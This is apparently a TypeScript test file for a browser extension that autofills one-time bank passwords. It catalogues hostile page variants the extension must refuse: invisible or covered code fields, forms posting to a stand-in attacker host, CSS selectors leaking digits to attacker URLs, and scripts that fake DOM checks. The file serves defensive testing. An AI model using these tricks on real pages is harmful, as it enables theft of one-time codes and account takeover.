import type { Arena } from '../arena.ts';
import { type Attack, page } from '../attack.ts';
import { LABEL, type PageParts, PLAYED } from '../pages.ts';

const INPUT = '<input id="code" name="code" maxlength="8">';

/** Boxes of one digit under the name of the code, as {@link page} puts them in place of the field; the last with more. */
const boxes = (count: number, last = ''): string =>
  Array.from(
    { length: count },
    (_none, at) =>
      `<input class="box" maxlength="1" aria-label="ワンタイムパスワード"${at === count - 1 ? last : ''}>`,
  ).join('');

/** The field is there and would do, but the customer does not see it, or not what is in it. */
const UNSEEN: Record<string, PageParts> = {
  'display: none': { style: '#inner { display: none }' },
  'no size': { style: '#outer { width: 0; height: 0; overflow: hidden }' },
  'off the screen': { style: '#code { position: absolute; left: -9999px }' },
  'faded by an ancestor': { style: '#outer { opacity: 0.01 }' },
  'cut away': { style: '#outer { clip-path: inset(0 0 100% 0) }' },
  'scaled to nothing': { style: '#outer { transform: scale(0.01) }' },
  inert: { main: `<div inert><form action="/ib/next">${LABEL}${INPUT}</form></div>` },
  'inert by a modal dialog': {
    after: `<dialog>お知らせ</dialog><script>document.querySelector('dialog').showModal(); ${PLAYED}</script>`,
  },
  'faded by the slot of a shadow tree': {
    main: `<form action="/ib/next"><div id="host"><template shadowrootmode="open"><div style="opacity: 0"><slot></slot></div></template><p>${LABEL} ${INPUT}</p></div></form>`,
  },
  'clipped by the slot of a shadow tree, below the fold': {
    style: '#host { display: block; margin-top: 3000px }',
    main: `<form action="/ib/next"><div id="host"><template shadowrootmode="open"><div style="height: 0; overflow: hidden"><slot></slot></div></template><p>${LABEL} ${INPUT}</p></div></form>`,
  },
  'under a picture that lets clicks through': {
    style: '#cover { position: fixed; inset: 0; background: white; pointer-events: none }',
  },
  'under a picture that stands before it and lets clicks through': {
    style:
      '#veil { position: absolute; width: 100%; height: 900px; background: white; pointer-events: none }',
    before: '<div id="veil"></div>',
  },
  'under a picture in the line that lets clicks through': {
    style: `#code { width: 200px } #veil { display: inline-block; width: 300px; height: 80px; margin: -30px 0 -30px -250px;
      background: white; pointer-events: none }`,
    line: `<p>${LABEL} ${INPUT}<span id="veil"></span></p>`,
  },
  'under its own label': {
    style: 'label::after { content: ""; position: fixed; inset: 0; background: white }',
  },
  'under its own label, a white one': {
    style: '#inner { position: relative } label { position: absolute; inset: 0; background: white }',
  },
  'under a white part of its own label': {
    style: '#inner { position: relative } label b { position: absolute; inset: 0; background: white }',
    label: '<b>ワンタイムパスワード</b>',
  },
  'under the shadow of its own label': {
    style: 'label { position: fixed; inset: 0; box-shadow: inset 0 0 0 9000px white }',
  },
  'under something, below the fold': {
    style:
      '#outer { margin-top: 3000px } #cover { position: absolute; left: 0; top: 0; width: 100%; height: 9000px; background: white }',
  },
  'under something with a hole in the middle': {
    style: `#code { position: fixed; left: 100px; top: 100px; width: 200px; height: 40px; box-sizing: border-box }
      .lid { position: fixed; left: 0; width: 600px; background: white } #above { top: 0; height: 119px } #below { top: 121px; height: 400px }`,
    after: '<div class="lid" id="above"></div><div class="lid" id="below"></div>',
  },
  'below a page that does not scroll': {
    style: 'html, body { overflow: hidden; height: 100% } #outer { margin-top: 3000px }',
  },
  'blurred away': { style: '#outer { filter: blur(200px) }' },
  'filtered away by a picture': {
    style: '#outer { filter: url(#nothing) }',
    after:
      '<svg width="0" height="0"><filter id="nothing"><feComponentTransfer><feFuncA type="linear" slope="0"/></feComponentTransfer></filter></svg>',
  },
  'blended into the page': {
    style: 'body { background: white } #outer { mix-blend-mode: lighten; background: white }',
  },
  'turned its back': { style: '#outer { transform: rotateY(180deg); backface-visibility: hidden }' },
  'turned its back, below the fold': {
    style: '#outer { margin-top: 3000px; transform: rotateY(180deg); backface-visibility: hidden }',
  },
  'contained by nothing, below the fold': {
    style: '#outer { margin-top: 3000px; height: 0; contain: paint }',
  },
  'in a closed disclosure': {
    main: `<form action="/ib/next"><details><summary>詳細</summary>${LABEL}${INPUT}</details></form>`,
  },
  'in a popover that is closed': {
    main: `<form action="/ib/next"><div popover>${LABEL}${INPUT}</div></form>`,
  },
};

/** Which check refuses each of {@link UNSEEN}; first of all the screen, where that is covered as well. */
const UNSEEN_BY: Readonly<Record<string, string>> = {
  'display: none': 'field too-small',
  'no size': 'field clipped',
  'off the screen': 'field outside',
  'faded by an ancestor': 'field faded',
  'cut away': 'field clipped',
  'scaled to nothing': 'field too-small',
  inert: 'field disabled',
  'inert by a modal dialog': 'field covered',
  'faded by the slot of a shadow tree': 'field faded',
  'clipped by the slot of a shadow tree, below the fold': 'field clipped',
  'under a picture that lets clicks through': 'screen covered',
  'under a picture that stands before it and lets clicks through': 'screen covered',
  'under a picture in the line that lets clicks through': 'field covered',
  'under its own label': 'screen covered',
  'under its own label, a white one': 'field covered',
  'under a white part of its own label': 'field covered',
  'under the shadow of its own label': 'screen covered',
  'under something, below the fold': 'screen covered',
  'under something with a hole in the middle': 'screen covered',
  'below a page that does not scroll': 'field outside',
  'blurred away': 'field filtered',
  'filtered away by a picture': 'field filtered',
  'blended into the page': 'field filtered',
  'turned its back': 'field covered',
  'turned its back, below the fold': 'field other-name',
  'contained by nothing, below the fold': 'field outside',
  'in a closed disclosure': 'field too-small',
  'in a popover that is closed': 'field too-small',
};

/** Lies of the page's own scripts about a field that cannot be seen. */
const LIES = `
  for (const [type, name, lie] of [
    [Element, 'getBoundingClientRect', () => ({ x: 10, y: 10, width: 200, height: 30, left: 10, top: 10 })],
    [Element, 'checkVisibility', () => true],
    [Element, 'matches', () => true],
    [Element, 'closest', () => null],
    [Document, 'elementFromPoint', () => document.getElementById('code')],
  ]) type.prototype[name] = lie;
  const truth = getComputedStyle;
  globalThis.getComputedStyle = (element) => truth(document.documentElement);
  for (const [type, name, lie] of [
    [HTMLFormElement, 'action', location.href],
    [HTMLInputElement, 'type', 'text'],
    [CSSStyleDeclaration, 'opacity', '1'],
    [Document, 'readyState', 'complete'],
    [Node, 'parentElement', null],
  ]) Object.defineProperty(type.prototype, name, { get: () => lie });`;

/** Ways a form can lead elsewhere. */
const ACTIONS = (arena: Arena): Record<string, PageParts> => {
  const { origin, port } = new URL(arena.bankUrl());
  const evil = arena.attacker.url('/take');
  return {
    'to another origin': { action: evil },
    'to another origin, without the scheme': { action: evil.replace('http:', '') },
    'by backslashes': { action: evil.replaceAll('/', '\\') },
    'by white space in the address': { action: ` ht\ntp:\t//evil.localhost:${arena.attacker.port}/take ` },
    'with the bank as its user name': { action: `${origin}@evil.localhost:${arena.attacker.port}/take` },
    'to a host that begins as the bank': { action: `http://senpoku.localhost.evil.localhost:${port}/take` },
    'to a port that begins as the bank’s': { action: `${origin}0/take`.replace(/:\d+0\//, ':1/') },
    'to another scheme': { action: `${origin.replace('http:', 'https:')}/ib/next` },
    'to data': { action: 'data:text/html,taken' },
    'to a script': { action: "javascript:fetch('/')" },
    'by mail': { action: 'mailto:evil@mail.example' },
    'by another base': { head: `<base href="${evil}">`, action: 'next' },
    'behind a field called action': {
      action: evil,
      after: '<input type="hidden" form="form" name="action" value="/ib/next">',
    },
    'behind fields called action and getAttribute': {
      action: evil,
      after:
        '<input type="hidden" form="form" name="action"><input type="hidden" form="form" name="getAttribute">',
    },
    'by a button': { button: ` formaction="${evil}"` },
    'by a picture to press': { after: `<input type="image" alt="次へ" form="form" formaction="${evil}">` },
    'by a button far from the form': { after: `<button form="form" formaction="${evil}">次へ</button>` },
    'by belonging to another form': {
      field: ' form="other"',
      after: `<form id="other" action="${evil}"></form>`,
    },
    'by a button, both hidden behind names': {
      button: ` formaction="${evil}" name="elements"`,
      after: '<input type="hidden" form="form" name="formAction">',
    },
  };
};

const form = (name: string): Attack =>
  page(`a form that leads ${name}`, (arena) => ACTIONS(arena)[name] ?? {}, 'unrecognised: field off-origin');

const FORMS = [
  'to another origin',
  'to another origin, without the scheme',
  'by backslashes',
  'by white space in the address',
  'with the bank as its user name',
  'to a host that begins as the bank',
  'to a port that begins as the bank’s',
  'to another scheme',
  'to data',
  'to a script',
  'by mail',
  'by another base',
  'behind a field called action',
  'behind fields called action and getAttribute',
  'by a button',
  'by a picture to press',
  'by a button far from the form',
  'by belonging to another form',
  'by a button, both hidden behind names',
].map(form);

/** What the page does once it may have been asked for, before the code comes. */
const MEANWHILE: Record<string, (arena: Arena) => unknown> = {
  'the field is another': () =>
    document.getElementById('code')?.replaceWith(document.getElementById('code')?.cloneNode() ?? ''),
  'the field is hidden': () => document.getElementById('code')?.setAttribute('type', 'hidden'),
  'the field is one for a search': () => document.getElementById('code')?.setAttribute('type', 'search'),
  'the field is moved off the page': () =>
    document.getElementById('code')?.setAttribute('style', 'position: fixed; left: -900px'),
  'the field is faded': () => document.getElementById('outer')?.setAttribute('style', 'opacity: 0.01'),
  'the field is covered': () =>
    document.getElementById('cover')?.setAttribute('style', 'position: fixed; inset: 0; background: white'),
  'the field is disabled': () => document.getElementById('code')?.setAttribute('disabled', ''),
  'the field has another name': () => {
    const label = document.querySelector('label');
    if (label) label.textContent = '確認用パスワード';
  },
  'there is a second field': () => {
    const line = document.querySelector('#inner p');
    const second = line?.cloneNode(true);
    if (line && second) line.after(second);
  },
  'the screen is another': () => {
    const heading = document.querySelector('h1');
    const id = document.querySelector('p');
    if (heading) heading.textContent = 'ワンタイムパスワード利用解除（利用解除確認）';
    if (id) id.textContent = '画面ID : BOS001';
  },
  'the field is typed into': () => {
    const field = document.querySelector<HTMLInputElement>('#code');
    if (field) field.defaultValue = '1';
  },
  'a base leads the form elsewhere': () => {
    document.querySelector('form')?.setAttribute('action', 'next');
    const base = document.createElement('base');
    base.href = 'http://evil.localhost/';
    document.head.append(base);
  },
  'the form leads elsewhere': () =>
    document.querySelector('form')?.setAttribute('action', 'http://evil.localhost/take'),
  'a button leads elsewhere': () =>
    document.querySelector('button')?.setAttribute('formaction', 'http://evil.localhost/take'),
  'the field goes into a frame': () => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument?.body.append(document.getElementById('code') ?? '');
  },
  'the field goes under a shadow root': () => {
    document.getElementById('outer')?.attachShadow({ mode: 'open' });
  },
  'the document is written anew': () => {
    const html = document.documentElement.outerHTML;
    document.open();
    document.write(html);
    document.close();
  },
};

/** The same with eight boxes for a field. */
const MEANWHILE_IN_BOXES: Record<string, () => unknown> = {
  'one of eight boxes is another': () => {
    const box = document.querySelector('.box');
    box?.replaceWith(box.cloneNode());
  },
  'one of eight boxes is faded': () => document.querySelector('.box')?.setAttribute('style', 'opacity: 0.01'),
  'one of eight boxes takes more than a digit': () =>
    document.querySelector('.box')?.setAttribute('maxlength', '8'),
  'two of eight boxes change places': () => {
    const box = document.querySelector('.box');
    box?.nextElementSibling?.after(box);
  },
  'there is a ninth box': () => {
    const box = document.querySelector('.box');
    box?.before(box.cloneNode());
  },
};

/** Changes after which there is a field that could be filled: it is asked for at once, and has to wait for the next code. */
const FIELD_AGAIN = ['the field is another', 'the document is written anew', 'one of eight boxes is another'];

const meanwhile = (name: string, happens: (arena: Arena) => unknown, parts: PageParts = {}): Attack => {
  const again = FIELD_AGAIN.includes(name);
  return {
    from: 'in-page',
    name: `between match and fill: ${name}`,
    refusedBy: again ? ['refused: field-changed', 'waiting'] : 'refused: field-changed',
    yields: 'nothing',
    play: async (arena) => {
      const outcome = await arena.between(parts, () => arena.page.evaluate(happens as () => unknown));
      if (again) await arena.until(async () => (await arena.settled()) === 'waiting', 'waiting');
      return outcome;
    },
  };
};

/** Waits until the code is in the field. */
const filled = (arena: Arena) =>
  arena.wait(() => document.querySelector<HTMLInputElement>('#code')?.value !== '');

const HARMLESS: Attack[] = [
  {
    from: 'in-page',
    name: 'clickjacking of the extension: the page looks for anything of its to cover',
    refusedBy: 'nothing of ours is there',
    yields: 'one code',
    play: async (arena) => {
      await arena.show({
        tells: false,
        script: `globalThis.seen = [];
          for (const type of ['submit', 'focus', 'focusin', 'click', 'message', 'keydown', 'scroll', 'animationstart', 'slotchange'])
            addEventListener(type, ({ target }) => target instanceof Element && seen.push(type), true);
          addEventListener('DOMContentLoaded', () => {
            globalThis.before = document.documentElement.outerHTML;
            new MutationObserver((changes) => seen.push(...changes.map(({ type }) => type)))
              .observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
          });`,
      });
      await filled(arena);
      const found = await arena.page.evaluate(() => {
        const { seen, before } = globalThis as unknown as { seen: string[]; before: string };
        const top = [...document.querySelectorAll('dialog, [popover]')].length;
        const sheets = document.adoptedStyleSheets.length + document.styleSheets.length - 1;
        const roots = [...document.querySelectorAll('*')].filter(({ shadowRoot }) => shadowRoot).length;
        const beside = document.documentElement.parentNode?.childNodes.length ?? 0;
        const changed = document.documentElement.outerHTML !== before;
        return { seen, top, sheets, roots, beside, changed, focused: document.activeElement?.tagName };
      });
      // What typing makes, and no more.
      const typing = ['focus', 'focusin', 'keydown'];
      const nothing = {
        seen: typing,
        top: 0,
        sheets: 0,
        roots: 0,
        beside: 2,
        changed: false,
        focused: 'BODY',
      };
      const same = JSON.stringify(found) === JSON.stringify(nothing);
      return same ? 'nothing of ours is there' : JSON.stringify(found);
    },
  },
  {
    from: 'in-page',
    name: 'a script of the page reads what was filled: cannot be prevented',
    refusedBy: 'filled',
    yields: 'one code',
    play: async (arena) => {
      const outcome = await arena.play({});
      await arena.until(async () => arena.attacker.loot().length > 0, 'the loot');
      return outcome;
    },
  },
  {
    from: 'in-page',
    name: 'decoys beside the field, that are no field for a code',
    refusedBy: 'filled',
    yields: 'one code',
    play: async (arena) => {
      const outcome = await arena.play({
        after: `<div>${boxes(7)}</div>
          <label>ワンタイムパスワード <input class="decoy" maxlength="8" style="display: none"></label>
          <label>ワンタイムパスワード <input class="decoy" maxlength="8" style="position: absolute; left: -999px"></label>
          <label>確認用パスワード <input class="decoy" maxlength="8"></label><input class="decoy" autocomplete="one-time-code">`,
      });
      const others = await arena.page.$$eval('input:not(#code)', (all) =>
        all.map(({ value }) => value).join(''),
      );
      return others === '' ? outcome : 'a decoy was filled';
    },
  },
  {
    from: 'in-page',
    name: 'focus, clicks, keys and input made by the page, to be filled again',
    // Emptied at once it is put back, the same code and once.
    refusedBy: ['refused: field-changed', 'filled'],
    yields: 'one code',
    play: async (arena) => {
      await arena.show({});
      await filled(arena);
      await arena.forgetSteps();
      await arena.page.evaluate(() => {
        const field = document.querySelector<HTMLInputElement>('#code');
        if (!field) return;
        field.value = '';
        for (let time = 0; time < 50; time += 1) {
          field.focus();
          field.click();
          for (const type of ['pointerdown', 'keydown', 'input', 'change', 'focusin']) {
            field.dispatchEvent(new Event(type, { bubbles: true }));
          }
          field.blur();
        }
        document.body.classList.add('restless');
        dispatchEvent(new Event('load'));
      });
      return arena.settled();
    },
  },
  {
    from: 'in-page',
    name: 'styles that spy on the field, where scripts may not run',
    refusedBy: 'filled, the attacker asked for nothing',
    yields: 'one code',
    play: async (arena) => {
      const spies = Array.from(
        { length: 10 },
        (_none, digit) =>
          `#code[value^="${digit}"], #code[value*="${digit}"] { background: url(${arena.attacker.url(`/css-${digit}`)}) }`,
      );
      const outcome = await arena.play({ tells: false, style: spies.join('\n') });
      const asked = arena.attacker.received.map(({ url }) => url);
      return `${outcome}, the attacker asked for ${asked.length === 0 ? 'nothing' : asked.join(' ')}`;
    },
  },
  {
    from: 'in-page',
    name: 'traps in the page’s own prototypes, to catch the code on its way',
    refusedBy: 'filled, no trap sprung',
    yields: 'one code',
    play: async (arena) => {
      const outcome = await arena.play({
        tells: false,
        script: `globalThis.sprung = [];
          const trap = (type, name) => {
            const own = Object.getOwnPropertyDescriptor(type.prototype, name);
            const caught = (via) => function (...given) { sprung.push(name); return via.apply(this, given); };
            Object.defineProperty(type.prototype, name, own.value
              ? { ...own, value: caught(own.value) }
              : { ...own, ...(own.get && { get: caught(own.get) }), ...(own.set && { set: caught(own.set) }) });
          };
          for (const [type, ...names] of [
            [HTMLInputElement, 'value', 'type', 'form', 'labels', 'maxLength', 'setAttribute' in HTMLInputElement.prototype ? 'setSelectionRange' : 'value'],
            [EventTarget, 'dispatchEvent', 'addEventListener'], [Document, 'querySelectorAll', 'elementFromPoint', 'createTreeWalker'],
            [Element, 'matches', 'closest', 'getBoundingClientRect'], [Node, 'textContent', 'parentElement'], [HTMLFormElement, 'action'],
          ]) for (const name of names) trap(type, name);
          Promise.prototype.then = new Proxy(Promise.prototype.then, { apply(...a) { sprung.push('then'); return Reflect.apply(...a); } });`,
      });
      const sprung = await arena.page.evaluate(() => Reflect.get(globalThis, 'sprung').join(' '));
      return `${outcome}, ${sprung === '' ? 'no trap sprung' : `sprung: ${sprung}`}`;
    },
  },
  {
    from: 'in-page',
    name: 'the page loaded again and again, for code after code',
    refusedBy: ['waiting', 'filled'],
    yields: 'one code',
    play: async (arena) => {
      let outcome = '';
      for (let time = 0; time < 8; time += 1) {
        await arena.show({});
        outcome = await arena.settled();
      }
      return outcome;
    },
  },
];

const TRICKS: Attack[] = [
  page(
    'lies of the page’s own functions about a hidden field',
    { style: '#outer { opacity: 0 }', script: LIES },
    'unrecognised: field faded',
  ),
  page(
    'lies about where the form leads',
    (arena) => ({ action: arena.attacker.url('/take'), script: LIES }),
    'unrecognised: field off-origin',
  ),
  page(
    'elements called as the functions that would find a cover',
    {
      style: '#cover { position: fixed; inset: 0; background: white }',
      after:
        '<form name="elementFromPoint"></form><img name="querySelectorAll" alt=""><embed name="defaultView">',
    },
    ['unrecognised: screen', 'unrecognised: field covered'],
  ),
  page(
    'eight split boxes beside the field',
    { after: `<div>${boxes(8)}</div>` },
    'unrecognised: several-fields',
  ),
  page('split boxes: seven, of which no code is', { line: boxes(7) }),
  page('split boxes: six, and a code of eight digits', { line: boxes(6) }, 'refused: field-changed'),
  page(
    'split boxes: nine, the last one not seen',
    { line: boxes(9), style: '.box:last-of-type { opacity: 0 }' },
    'unrecognised: field faded',
  ),
  page(
    'split boxes: eight, the last one not seen',
    { line: boxes(8), style: '.box:last-of-type { opacity: 0 }' },
    'unrecognised: field faded',
  ),
  page(
    'split boxes: eight, one of them off the page',
    { line: boxes(8), style: '.box:last-of-type { position: absolute; left: -9999px }' },
    'unrecognised: field outside',
  ),
  page('split boxes: eight, and one that takes the whole code', {
    line: `${boxes(8)}<input name="all" aria-label="ワンタイムパスワード" style="opacity: 0">`,
  }),
  page('split boxes: eight, one of another form', (arena) => ({
    line: boxes(8, ' form="other"'),
    after: `<form id="other" action="${arena.attacker.url('/take')}"></form>`,
  })),
  page(
    'split boxes: eight, of a form that leads to another origin',
    (arena) => ({ line: boxes(8), action: arena.attacker.url('/take') }),
    'unrecognised: field off-origin',
  ),
  page('split boxes: eight, in which one has another name', {
    line: `<label for="first">ワンタイムパスワード</label>${boxes(8).replace('aria-label="ワンタイムパスワード"', 'aria-label="暗証番号"')}`,
  }),
  page(
    'two fields of one name, one of them far away',
    { after: '<p style="margin-top: 2000px"><input maxlength="8" aria-label="ワンタイムパスワード"></p>' },
    'unrecognised: several-fields',
  ),
  page(
    'a field put in place of itself all the time',
    {
      script: `addEventListener('DOMContentLoaded', () => setInterval(() => {
        const field = document.getElementById('code');
        if (field.value === '') field.replaceWith(field.cloneNode());
      }));`,
    },
    ['refused: field-changed', 'waiting', 'asking'],
  ),
  page('a field of the right name that is no field', {
    line: '<label for="code">ワンタイムパスワード</label><textarea id="code" maxlength="8"></textarea>',
  }),
  page('a place to write in that is no field', {
    line: '<span id="name">ワンタイムパスワード</span><div contenteditable role="textbox" aria-labelledby="name" style="width: 200px; height: 30px"></div>',
  }),
];

export const IN_PAGE: readonly Attack[] = [
  ...Object.entries(UNSEEN).map(([way, parts]) =>
    page(`a field that is not seen: ${way}`, parts, `unrecognised: ${UNSEEN_BY[way]}`),
  ),
  ...FORMS,
  ...Object.entries(MEANWHILE).map(([name, happens]) => meanwhile(name, happens)),
  ...Object.entries(MEANWHILE_IN_BOXES).map(([name, happens]) =>
    meanwhile(name, happens, { line: boxes(8) }),
  ),
  ...TRICKS,
  ...HARMLESS,
];
